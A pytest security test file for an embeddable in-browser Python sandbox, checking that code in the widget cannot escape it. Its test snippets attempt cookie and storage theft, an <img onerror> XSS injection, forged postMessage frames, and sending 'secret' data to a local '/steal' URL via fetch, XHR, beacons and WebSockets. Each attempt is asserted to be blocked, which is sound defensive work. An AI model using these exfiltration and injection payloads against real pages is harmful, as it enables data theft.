"""Hostile code in the browser tier is contained: a course page on another origin embeds
<wasm-runner>; Python in the sandbox cannot read the page's cookies or storage, touch its DOM or
`parent`, reach another origin, or impersonate the widget towards the page."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from tests.support.browser import READY_SECONDS, poll, shared_browser, shared_server

COOKIE_SECRET = "cookie-secret-5f1c"
STORAGE_SECRET = "storage-secret-9a7e"


class _Embedder(BaseHTTPRequestHandler):
    """A course page on its own origin, and a URL that records anything sent to it."""

    runner_url = ""
    stolen: list[str] = []  # noqa: RUF012 (shared on purpose: the server thread appends)

    def do_GET(self) -> None:
        if self.path.startswith("/steal"):
            self.stolen.append(self.path)
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()
            self.wfile.write(b"stolen")
            return
        body = f"""<!doctype html><html><head><meta charset="utf-8"><title>Course page</title>
<script>localStorage.setItem("secret", "{STORAGE_SECRET}"); sessionStorage.setItem("secret", "{STORAGE_SECRET}");</script>
<script type="module" src="{self.runner_url}/embed.js"></script></head>
<body><h1>Lesson 1</h1><p id="lesson">Untouched lesson text</p>
<wasm-runner id="first" tier="browser" readonly>print("hello from the first widget")</wasm-runner>
<wasm-runner id="second" tier="browser">print("second")</wasm-runner>
</body></html>""".encode()
        self.send_response(200)
        self.send_header("content-type", "text/html; charset=utf-8")
        self.send_header("set-cookie", f"secret={COOKIE_SECRET}; Path=/")
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        self.stolen.append("POST " + self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def embedder() -> Iterator[str]:
    _Embedder.runner_url = shared_server()
    _Embedder.stolen = []
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Embedder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()


@pytest.fixture(scope="module")
def course_page(embedder):
    context = shared_browser().new_context()
    page = context.new_page()
    page.goto(embedder + "/")
    poll(
        page,
        "customElements.get('wasm-runner') && document.getElementById('first').runner",
    )
    poll(
        page,
        "document.getElementById('first').runner.browserInfo",
        timeout=READY_SECONDS,
    )
    yield page
    context.close()


RUN_WIDGET = """async ([id, code]) => {
  const element = document.getElementById(id);
  element.getCode = () => code;
  return await element.run();
}"""


def run_widget(page, code: str, widget: str = "first") -> dict:
    return page.evaluate(RUN_WIDGET, [widget, code])


def test_embed_element_runs_its_snippet(course_page):
    result = course_page.evaluate(
        "async () => await document.getElementById('first').run()"
    )
    assert result["status"] == "ok"
    assert result["stdout"] == "hello from the first widget\n"
    shown = course_page.evaluate(
        "document.getElementById('first').shadowRoot.querySelector('.output').textContent"
    )
    assert "hello from the first widget" in shown


def test_python_cannot_read_the_pages_cookies_or_storage(course_page):
    # the secrets are really there for the page itself
    assert COOKIE_SECRET in course_page.evaluate("document.cookie")
    assert course_page.evaluate("localStorage.getItem('secret')") == STORAGE_SECRET
    code = """
import js
attempts = {}
def attempt(name, fn):
    try:
        attempts[name] = str(fn())
    except BaseException as exc:
        attempts[name] = "blocked " + type(exc).__name__
attempt("document", lambda: js.document.cookie)
attempt("localStorage", lambda: js.localStorage.getItem("secret"))
attempt("sessionStorage", lambda: js.sessionStorage.getItem("secret"))
attempt("eval", lambda: js.eval("document.cookie"))
attempt("indexedDB", lambda: js.indexedDB.open("probe"))
attempt("caches", lambda: js.caches.keys())
attempt("origin", lambda: js.self.origin)
for name, value in attempts.items():
    print(name, "=", value)
"""
    result = run_widget(course_page, code)
    assert result["status"] == "ok", result["stderr"]
    out = result["stdout"]
    assert COOKIE_SECRET not in out and STORAGE_SECRET not in out
    lines = dict(line.split(" = ", 1) for line in out.strip().splitlines())
    assert lines["origin"] == "null"  # an opaque origin
    for name in (
        "document",
        "localStorage",
        "sessionStorage",
        "eval",
        "indexedDB",
        "caches",
    ):
        assert lines[name].startswith("blocked"), (name, lines[name])
    # the page and its secrets are unharmed
    assert course_page.evaluate("localStorage.getItem('secret')") == STORAGE_SECRET
    assert course_page.text_content("#lesson") == "Untouched lesson text"


def test_python_cannot_touch_parent_or_inject_into_the_page(course_page):
    code = """
import js
for name in ("parent", "top", "opener", "frameElement"):
    try:
        print(name, "=", getattr(js, name).document.body)
    except BaseException as exc:
        print(name, "= blocked", type(exc).__name__)
print('<img src=x onerror="document.title=`pwned`"><b id="injected">bold</b>')
"""
    result = run_widget(course_page, code)
    assert result["status"] == "ok", result["stderr"]
    for name in ("parent", "top", "opener", "frameElement"):
        assert f"{name} = blocked" in result["stdout"]
    # output is text, never markup: nothing was injected into the widget or the page
    widget = "document.getElementById('first').shadowRoot"
    assert course_page.evaluate(f"{widget}.querySelector('#injected')") is None
    assert course_page.evaluate(f"{widget}.querySelectorAll('.output img').length") == 0
    assert course_page.title() == "Course page"


def test_python_cannot_send_requests_to_another_origin(course_page, embedder):
    code = f"""
import js
from pyodide.ffi import to_js
target = "{embedder}/steal?data=secret"
results = []
try:
    await js.fetch(target)
    results.append("fetch reached")
except BaseException as exc:
    results.append("fetch blocked " + type(exc).__name__)
try:
    xhr = js.XMLHttpRequest.new()
    xhr.open("GET", target, False)
    xhr.send()
    results.append("xhr reached")
except BaseException as exc:
    results.append("xhr blocked " + type(exc).__name__)
try:
    results.append("beacon " + str(js.navigator.sendBeacon(target, "x")))
except BaseException as exc:
    results.append("beacon blocked " + type(exc).__name__)
try:
    import asyncio
    socket = js.WebSocket.new("{embedder.replace("http", "ws")}/steal")
    await asyncio.sleep(0.5)
    results.append("websocket state " + str(socket.readyState))  # 3: closed, never opened
except BaseException as exc:
    results.append("websocket blocked " + type(exc).__name__)
try:
    js.importScripts(target)
    results.append("importScripts reached")
except BaseException as exc:
    results.append("importScripts blocked " + type(exc).__name__)
print(results)
"""
    result = run_widget(course_page, code)
    assert result["status"] == "ok", result["stderr"]
    out = result["stdout"]
    assert (
        "fetch blocked" in out
        and "xhr blocked" in out
        and "importScripts blocked" in out
    )
    assert "websocket blocked" in out or "websocket state 3" in out
    assert "reached" not in out
    # give any stray beacon or socket time to arrive, then check nothing did
    course_page.wait_for_timeout(1000)
    assert _Embedder.stolen == []


def test_forged_messages_do_not_impersonate_the_widget(course_page):
    # Python in the worker posts a fake "done" for another run, and a fake input request
    code = """
import js
from pyodide.ffi import to_js
from js import Object
fake = {"channel": "wasm-runner/1", "type": "done", "id": 999, "result": {"status": "ok", "stdout": "FORGED"}}
js.postMessage(to_js(fake, dict_converter=Object.fromEntries))
print("posted")
"""
    result = run_widget(course_page, code)
    assert result["stdout"] == "posted\n"
    # the page itself receiving a forged frame-shaped message from a non-frame source ignores it
    ignored = course_page.evaluate(
        """async () => {
      const element = document.getElementById('second');
      element.getCode = () => "import time\\ntime.sleep(0.5)\\nprint('real')";
      const pending = element.run();
      window.postMessage({channel: "wasm-runner/1", type: "done", id: 1, result: {status: "ok", stdout: "FORGED"}}, "*");
      for (let id = 1; id < 50; id++) {
        window.postMessage({channel: "wasm-runner/1", type: "done", id, result: {status: "ok", stdout: "FORGED"}}, "*");
      }
      return await pending;
    }"""
    )
    assert ignored["stdout"] == "real\n"
    assert "FORGED" not in course_page.evaluate(
        "document.getElementById('second').shadowRoot.querySelector('.output').textContent"
    )


def test_the_frame_itself_is_an_opaque_sandbox(course_page, embedder):
    """Defence in depth: even script running in the frame (outside the worker) is contained."""
    frame = next(f for f in course_page.frames if f.url.endswith("/sandbox"))
    probe = frame.evaluate(
        """async (target) => {
      const out = {};
      const attempt = async (name, fn) => {
        try { out[name] = "reached " + String(await fn()); } catch (e) { out[name] = "blocked " + e.name; }
      };
      await attempt("cookie", () => document.cookie);
      await attempt("localStorage", () => localStorage.getItem("secret"));
      await attempt("parentDocument", () => parent.document.title);
      await attempt("fetch", () => fetch(target).then((r) => r.status));
      out.origin = origin;
      return out;
    }""",
        embedder + "/steal?from=frame",
    )
    assert probe["origin"] == "null"
    for name in ("cookie", "localStorage", "parentDocument", "fetch"):
        assert probe[name].startswith("blocked"), (name, probe[name])
    assert _Embedder.stolen == []
